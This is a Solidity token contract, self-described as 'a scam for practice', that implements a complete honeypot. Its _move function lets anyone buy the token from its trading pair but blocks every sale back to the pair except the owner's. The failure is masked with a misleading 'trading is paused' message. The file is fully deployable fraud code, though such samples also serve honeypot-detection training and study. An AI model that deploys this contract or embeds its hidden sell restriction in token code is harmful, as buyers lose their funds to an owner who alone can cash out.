// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// @notice A scam for practice: everybody may buy it at its pair, only its owner may sell it there.
contract Honeypot {
    string public constant name = "Honey";
    string public constant symbol = "HONEY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000e18;
    address public immutable owner = msg.sender;
    address public pair;

    mapping(address holder => uint256) public balanceOf;
    mapping(address holder => mapping(address spender => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[owner] = totalSupply;
        emit Transfer(address(0), owner, totalSupply);
    }

    function setPair(address pair_) external {
        require(msg.sender == owner);
        pair = pair_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        require(to != pair || from == owner, "Honey: trading is paused");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
